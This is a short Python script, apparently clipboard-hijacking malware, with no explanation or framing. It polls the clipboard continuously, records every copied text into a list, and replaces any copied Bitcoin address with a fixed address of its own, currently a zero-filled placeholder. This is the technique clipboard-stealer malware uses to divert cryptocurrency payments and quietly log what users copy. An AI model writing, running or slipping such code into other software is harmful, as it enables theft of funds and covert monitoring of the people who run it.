import re
import time

import pyperclip

KEPT = []
FORM = re.compile(r"^(bc1[a-z0-9]{25,60}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})$")
SPARE = "bc1q0000000000000000000000000000000000000"

while True:
    text = pyperclip.paste().strip()
    if text and text not in KEPT:
        KEPT.append(text)
    if FORM.match(text) and text != SPARE:
        pyperclip.copy(SPARE)
    time.sleep(0.4)
